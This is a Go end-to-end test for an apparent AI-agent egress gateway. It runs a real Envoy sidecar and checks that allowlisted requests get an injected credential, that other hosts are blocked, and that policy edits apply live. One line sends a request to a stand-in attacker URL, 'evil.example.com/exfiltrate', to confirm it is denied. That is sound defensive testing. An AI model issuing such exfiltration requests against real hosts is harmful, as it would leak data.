//go:build e2e

package e2e

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/agent-assembly/agent-assembly/action"
	"github.com/agent-assembly/agent-assembly/envoy"
)

// envoyBinary finds Envoy: $ENVOY_BIN, else envoy on PATH.
func envoyBinary(t *testing.T) string {
	t.Helper()
	if b := os.Getenv("ENVOY_BIN"); b != "" {
		return b
	}
	b, err := exec.LookPath("envoy")
	if err != nil {
		t.Skip("no Envoy: set ENVOY_BIN or put envoy on PATH (deploy/compose.yaml runs one) to run the sidecar test")
	}
	return b
}

// TestEnvoySidecar runs a real Envoy configured only by the gateway's xDS:
// an agent's request to an allowed host passes with the credential the
// policy injects, a host outside the allowlist gets 403 from policy, and a
// policy edit applies to the running Envoy without restarting it.
func TestEnvoySidecar(t *testing.T) {
	envoyBin := envoyBinary(t)

	// The upstream echoes the headers it received.
	ul, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	upstream := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(map[string]any{"path": r.URL.Path, "headers": r.Header})
	})}
	go func() { _ = upstream.Serve(ul) }()
	t.Cleanup(func() { upstream.Close() })
	upPort := ul.Addr().(*net.TCPAddr).Port

	dir := t.TempDir()
	policies := filepath.Join(dir, "policies")
	if err := os.Mkdir(policies, 0o755); err != nil {
		t.Fatal(err)
	}
	writePolicy := func(allowUpstream bool) {
		t.Helper()
		body := `apiVersion: agent-assembly/v1
kind: Policy
metadata: {name: research}
spec:
  scope: {level: team, org: acme, team: research}
  default: deny
  rules:
    - {id: network-by-allowlist, priority: -100, match: {action: network_call}, decision: allow}
  network:
    allowlist:
      - {host: docs.example.org, ports: [80]}
`
		if allowUpstream {
			body += fmt.Sprintf("      - {host: 127.0.0.1, ports: [%d], inject: {header: X-Api-Key, value: \"key ${UPSTREAM_KEY}\"}}\n", upPort)
		}
		if err := os.WriteFile(filepath.Join(policies, "research.yaml"), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	writePolicy(true)

	egress := freeAddr(t)
	g := &gateway{grpc: freeAddr(t), api: freeAddr(t)}
	g.proc = start(t, "aa-gateway", exec.Command(bin(t, "aa-gateway"),
		"-grpc-addr", g.grpc, "-api-addr", g.api, "-store", "sqlite:"+filepath.Join(dir, "aa.db"),
		"-policy", policies, "-policy-poll", "200ms", "-secrets-key-file", filepath.Join(dir, "secrets.key"),
		"-xds-egress-addr", egress, "-log-format", "json"))
	eventually(t, 30*time.Second, "gateway ready", func() error {
		resp, err := http.Get("http://" + g.api + "/readyz")
		if err != nil {
			return err
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			return fmt.Errorf("readyz %d", resp.StatusCode)
		}
		return nil
	})
	set := exec.Command(bin(t, "aasm"), "--addr", g.grpc, "secret", "set", "UPSTREAM_KEY")
	set.Stdin = strings.NewReader("s3cr3t-upstream")
	if out, err := set.CombinedOutput(); err != nil {
		t.Fatalf("aasm secret set: %v\n%s", err, out)
	}

	agent := action.AgentID{Org: "acme", Team: "research", Agent: "researcher-1"}
	admin, err := strconv.Atoi(strings.Split(freeAddr(t), ":")[1])
	if err != nil {
		t.Fatal(err)
	}
	egressPort, err := strconv.Atoi(strings.Split(egress, ":")[1])
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := envoy.Render(envoy.BootstrapYAML, envoy.Vars{Agent: agent, Gateway: g.grpc, AdminPort: admin, EgressPort: egressPort})
	if err != nil {
		t.Fatal(err)
	}
	cfgPath := filepath.Join(dir, "envoy.yaml")
	if err := os.WriteFile(cfgPath, cfg, 0o644); err != nil {
		t.Fatal(err)
	}
	start(t, "envoy", exec.Command(envoyBin, "-c", cfgPath, "--disable-hot-restart", "--log-level", "info"))

	proxy, _ := url.Parse("http://" + egress)
	client := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy)}, Timeout: 10 * time.Second}
	get := func(target string) (int, string, error) {
		resp, err := client.Get(target)
		if err != nil {
			return 0, "", err
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b), nil
	}
	allowed := fmt.Sprintf("http://127.0.0.1:%d/v1/hello", upPort)

	// Allowed: reaches the upstream with the injected credential.
	eventually(t, 30*time.Second, "allowed request through the sidecar", func() error {
		code, body, err := get(allowed)
		if err != nil {
			return err
		}
		if code != http.StatusOK || !strings.Contains(body, "key s3cr3t-upstream") {
			return fmt.Errorf("HTTP %d %s", code, body)
		}
		return nil
	})
	t.Log("allowed host: 200 with the injected X-Api-Key")

	// Denied: a host outside the allowlist gets 403 with the rule.
	code, body, err := get("http://evil.example.com/exfiltrate")
	if err != nil || code != http.StatusForbidden || !strings.Contains(body, `"decision":"deny"`) {
		t.Fatalf("denied host: HTTP %d %s %v, want 403 with a deny body", code, body, err)
	}
	t.Logf("denied host: 403 %s", body)

	// A policy edit reaches the running Envoy: the upstream is now denied.
	out, _ := aasm(t, g, "xds", "status")
	before := out
	writePolicy(false)
	eventually(t, 30*time.Second, "policy change applied by the running Envoy", func() error {
		code, body, err := get(allowed)
		if err != nil {
			return err
		}
		if code != http.StatusForbidden {
			return fmt.Errorf("HTTP %d %s", code, body)
		}
		return nil
	})
	after, _ := aasm(t, g, "xds", "status")
	if before == after {
		t.Errorf("xds status did not change after the policy edit:\n%s", after)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, fmt.Sprintf("http://127.0.0.1:%d/config_dump?resource=dynamic_route_configs", admin), nil)
	if resp, err := http.DefaultClient.Do(req); err == nil {
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if strings.Contains(string(b), fmt.Sprintf("127.0.0.1:%d", upPort)) {
			t.Errorf("Envoy still routes the removed destination:\n%s", b)
		}
	}
}
